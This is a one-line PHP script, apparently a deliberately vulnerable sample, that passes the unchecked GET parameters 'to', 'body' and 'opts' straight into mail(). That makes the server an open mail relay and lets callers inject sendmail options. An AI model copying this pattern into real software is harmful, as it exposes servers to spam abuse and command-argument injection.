<?php mail($_GET['to'], 'hi', $_GET['body'], '', $_GET['opts']);
